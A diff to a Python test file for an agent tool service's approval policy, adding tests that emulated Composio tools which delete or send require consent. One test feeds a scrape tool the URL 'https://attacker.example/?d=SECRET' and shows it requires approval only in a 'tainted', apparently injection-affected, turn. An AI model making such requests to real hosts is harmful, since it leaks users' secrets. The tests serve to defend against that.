@@ -10,7 +10,9 @@ import pytest
 
 from emulators.composio.catalogue import Tool as VendorTool
 from emulators.composio.catalogue import Toolkit
+from emulators.composio.tools import READS
 from emulators.faults import matching
+from kernel_service.approvals.policy import ApprovalPolicy
 from kernel_service.errors import VendorUnavailable
 from kernel_service.tools.developer_tools import tool
 from kernel_service.tools.schemas import NAME
@@ -247,7 +249,7 @@ async def test_names_that_the_models_vendor_refuses_are_replaced(world: World, s
     assert NAME.fullmatch(offered.schema.name)
     assert (await offered.call(ALICE, {})).output == '{"done":true}'
     assert world.effects.all("tool_execution")[-1].key == slug
-    assert offered.asks_first is ("SEND" in slug)
+    assert ApprovalPolicy()(offered, {}, tainted=False)
 
 
 async def test_a_name_that_comes_twice_or_is_ours_is_offered_once(world: World) -> None:
@@ -368,3 +370,24 @@ def test_the_heavy_sdk_is_never_imported() -> None:
         "kernel_service.tools.developer_tools; sys.exit('composio' in sys.modules)"
     )
     assert subprocess.run([sys.executable, "-c", code], check=False).returncode == 0
+
+
+# --- consent: a tool as Composio describes it, and as a turn gets it ------------------------------------------------
+
+
+async def test_a_scrape_runs_for_the_person_and_asks_in_a_tainted_turn(world: World) -> None:
+    scrape = VendorTool("FIRECRAWL_SCRAPE", "firecrawl", "Scrape", "Read.", READS, {}, (), lambda _p, _a: {})
+    world.vendor.catalogue.add(Toolkit("firecrawl", "Firecrawl", "Web pages."), scrape)
+    await world.connect("p_alice", "firecrawl")
+    offered = await world.toolbox().named(ALICE, "FIRECRAWL_SCRAPE")
+    assert offered is not None
+    given = {"url": "https://attacker.example/?d=SECRET"}
+    assert [ApprovalPolicy()(offered, given, tainted=tainted) for tainted in (False, True)] == [False, True]
+
+
+async def test_by_default_the_emulated_toolkits_ask_for_what_deletes_or_sends(world: World) -> None:
+    await world.connect("p_alice")
+    await world.connect("p_alice", "gmail")
+    offered = await world.toolbox().tools_for(ALICE)
+    asked = [each.schema.name for each in offered if ApprovalPolicy()(each, {}, tainted=False)]
+    assert asked == ["disconnect", "ASANA_DELETE_TASK", "GMAIL_SEND_EMAIL"]
